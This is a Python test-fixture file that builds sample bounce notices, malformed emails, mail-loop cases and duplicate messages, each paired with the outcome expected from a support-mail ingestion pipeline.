# --- bounces of our mail (DSN, RFC 3464) -----------------------------------------------------------------

_DSN_TEXT = """This is the mail system at host mx.customer.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

<{{customer}}>: host mx.customer.test[192.0.2.10] said: 550 5.1.1
    <{{customer}}>: Recipient address rejected: User unknown in virtual mailbox
    table (in reply to RCPT TO command)
"""
_DSN_STATUS = """Reporting-MTA: dns; mx.customer.test
X-Postfix-Queue-ID: 4F1A2B3C4D
X-Postfix-Sender: rfc822; {{support}}
Arrival-Date: Mon, 30 Nov 2026 10:00:02 -0500

Final-Recipient: rfc822; {{customer}}
Original-Recipient: rfc822;{{customer}}
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.test
Diagnostic-Code: smtp; 550 5.1.1 <{{customer}}>: Recipient address rejected: User
    unknown in virtual mailbox table
"""
_add(
    "bounce-dsn-rfc822-headers",
    _join(
        _headers(
            sender="MAILER-DAEMON@mx.customer.test (Mail Delivery System)",
            to="{{support}}",
            subject="Undelivered Mail Returned to Sender",
            message_id="<{{unique}}.bounce@mx.customer.test>",
            content_type=(
                'multipart/report; report-type=delivery-status;\n boundary="4F1A2B3C4D.1701356402/mx"'
            ),
            encoding=None,
            extra=("Auto-Submitted: auto-replied", "Return-Path: <>"),
        ),
        _multipart(
            "4F1A2B3C4D.1701356402/mx",
            [
                _part(
                    ["Content-Description: Notification", "Content-Type: text/plain; charset=us-ascii"],
                    _DSN_TEXT,
                ),
                _part(
                    ["Content-Description: Delivery report", "Content-Type: message/delivery-status"],
                    _DSN_STATUS,
                ),
                _part(
                    ["Content-Description: Undelivered Message Headers", "Content-Type: text/rfc822-headers"],
                    "Return-Path: <{{support}}>\n"
                    "From: Hudson Support <{{support}}>\n"
                    "To: {{customer}}\n"
                    "Subject: [{{reference}}] We have received your request\n"
                    "Message-ID: {{ack_message_id}}\n"
                    "Date: Mon, 30 Nov 2026 10:00:01 -0500\n"
                    "Auto-Submitted: auto-generated\n",
                ),
            ],
            preamble="This is a MIME-encapsulated message.",
        ),
        crlf=True,
    ),
    Expect("bounce"),
)

_add(
    "bounce-dsn-message-rfc822-exchange",
    _join(
        _headers(
            sender="Microsoft Outlook <postmaster@customer.test>",
            to="<{{support}}>",
            subject=f"Undeliverable: {ACK_SUBJECT}",
            message_id="<{{unique}}.ndr@customer.test>",
            content_type='multipart/report; report-type=delivery-status; boundary="ndr_b"',
            encoding=None,
        ),
        _multipart(
            "ndr_b",
            [
                _part(
                    ["Content-Type: text/plain; charset=us-ascii"],
                    "Delivery has failed to these recipients or groups:\n\n{{customer}}\n"
                    "The email address you entered couldn't be found.\n",
                ),
                _part(
                    ["Content-Type: message/delivery-status"],
                    "Reporting-MTA: dns;BY5PR11MB.namprd11.prod.outlook.com\n"
                    "Received-From-MTA: dns;mail.example.com\n\n"
                    "Final-Recipient: rfc822;{{customer}}\n"
                    "Action: failed\n"
                    "Status: 5.1.1\n"
                    "Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found\n",
                ),
                _part(
                    ["Content-Type: message/rfc822"],
                    "From: Hudson Support <{{support}}>\n"
                    "To: {{customer}}\n"
                    "Subject: [{{reference}}] We have received your request\n"
                    "Message-ID: {{ack_message_id}}\n"
                    "Date: Mon, 30 Nov 2026 10:00:01 -0500\n"
                    "Content-Type: text/plain; charset=utf-8\n\n"
                    "Hello,\n\nThank you for contacting Hudson Digital Assets.\n",
                ),
            ],
        ),
        crlf=False,
    ),
    Expect("bounce"),
)

_add(
    "bounce-original-not-ours",
    _join(
        _headers(
            sender="Mail Delivery System <MAILER-DAEMON@mx.elsewhere.test>",
            to="{{support}}",
            subject="Undelivered Mail Returned to Sender",
            message_id="<{{unique}}.bounce2@mx.elsewhere.test>",
            content_type='multipart/report; report-type=delivery-status; boundary="nb"',
            encoding=None,
        ),
        _multipart(
            "nb",
            [
                _part(["Content-Type: text/plain"], "Your message could not be delivered.\n"),
                _part(
                    ["Content-Type: message/delivery-status"],
                    "Reporting-MTA: dns; mx.elsewhere.test\n\n"
                    "Final-Recipient: rfc822; ghost@elsewhere.test\n"
                    "Action: failed\n"
                    "Status: 5.1.1\n",
                ),
                _part(
                    ["Content-Type: text/rfc822-headers"],
                    "From: spammer@spoofed.test\n"
                    "To: ghost@elsewhere.test\n"
                    "Subject: You won\n"
                    "Message-ID: <spam-{{unique}}@spoofed.test>\n",
                ),
            ],
        ),
        crlf=True,
    ),
    Expect("quarantined", reason_code="automatic_no_case"),
)

# qmail and some hosted filters: no multipart/report, the original quoted as text.
_add(
    "bounce-qmail-plain-text",
    _mail(
        """Hi. This is the qmail-send program at mx.customer.test.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<ALICE@CUSTOMER.TEST>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <{{support}}>
Received: (qmail 12345 invoked from network); 30 Nov 2026 15:00:02 -0000
From: Hudson Support <{{support}}>
To: {{customer}}
Subject: [{{reference}}] We have received your request
Message-ID: {{ack_message_id}}
Date: Mon, 30 Nov 2026 10:00:01 -0500

Hello,
""",
        sender="MAILER-DAEMON@mx.customer.test",
        to="{{support}}",
        subject="failure notice",
        message_id="<{{unique}}.qmail@mx.customer.test>",
        content_type="text/plain; charset=us-ascii",
        encoding="7bit",
    ),
    Expect("bounce"),
)


# --- malformed and hostile input: kept raw, quarantined with a reason (DFS-25, NYCRR-06) -----------------

_add(
    "malformed-no-from-header",
    _join(
        _headers(sender="", subject="Help with my account", message_id="<{{unique}}.nofrom@customer.test>"),
        b"I cannot log in to my account. Please help.\n",
        crlf=False,
    ),
    Expect("quarantined", reason_code="no_sender"),
)

_add(
    "malformed-from-undisclosed",
    _mail(
        "Please call me back about my withdrawal, it is urgent.\n",
        sender="undisclosed",
        subject="Call me",
        message_id="<{{unique}}.undisc@customer.test>",
        crlf=True,
    ),
    Expect("quarantined", reason_code="no_sender"),
)

_GARBAGE = (
    b"\x89PNG\r\n\x1a\n"
    + bytes(byte for byte in random.Random(20261130).randbytes(2400) if byte not in b"{}")[:2040]
)
_add("malformed-binary-garbage", _GARBAGE, Expect("quarantined", reason_code="no_sender"))

_add(
    "malformed-mail-loop-from-support",
    _mail(
        "[{{reference}}] We have received your request\n\nThank you for contacting us.\n",
        sender=SUPPORT,
        to="{{support}}",
        subject=ACK_SUBJECT,
        message_id="<{{unique}}.loop@example.com>",
    ),
    Expect("quarantined", reason_code="mail_loop"),
)

_add(
    "malformed-mail-loop-from-token-address",
    _mail(
        "Thank you for contacting us.\n",
        sender="Hudson Support <{{token_address}}>",
        to="{{support}}",
        subject=ACK_SUBJECT,
        message_id="<{{unique}}.loop2@example.com>",
        crlf=True,
    ),
    Expect("quarantined", reason_code="mail_loop"),
)

_add(
    "malformed-mail-loop-uppercase-address",
    _mail(
        "Thank you for contacting us.\n",
        sender="HUDSON SUPPORT <SUPPORT@EXAMPLE.COM>",
        to="{{support}}",
        subject=ACK_SUBJECT,
        message_id="<{{unique}}.loop3@example.com>",
    ),
    Expect("quarantined", reason_code="mail_loop"),
)


# --- the same message twice (IMAP and MTA, or a retry): stored once ------------------------------------

_DUPLICATED = _mail(
    """Hello, I want to close my account and withdraw the remaining balance of 42 USD.
Please tell me what I need to do. Thank you.
""",
    sender="Rosa Diaz <rosa.diaz@customer.test>",
    subject="Close my account",
    message_id="<dup-1@mail.customer.test>",
)
_add(
    "original-for-duplicate",
    _DUPLICATED,
    Expect("new_case", thread="new", language="en", kind="request", text_contains=("close my account",)),
)
_add("duplicate-same-message-id", _DUPLICATED, Expect("duplicate"))
_add(
    "duplicate-without-message-id",
    _join(
        ["From: Rosa Diaz <rosa.diaz2@customer.test>", "To: {{support}}", "Subject: Fees", f"Date: {DATE}"],
        b"Why did the withdrawal fee change this month? It used to be 5 USD and now it is 12 USD.\n",
        crlf=True,
    ),
    Expect("duplicate"),
)

NAMES = [message.name for message in CORPUS]
assert len(NAMES) == len(set(NAMES)), "corpus names must be unique"
